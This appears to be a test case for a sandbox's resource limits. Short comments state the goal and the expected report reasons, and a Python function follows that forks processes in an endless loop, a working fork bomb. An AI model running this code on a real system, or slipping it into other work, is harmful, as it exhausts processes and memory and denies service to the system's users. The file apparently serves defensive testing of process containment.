# tries: to start processes without end
# comes: no point, and a report that says why
# waits: for a limit on time
# reason: still running|took more|used up|ended|memory
import os
def f(*a):
    while True:
        try: os.fork()
        except OSError: pass
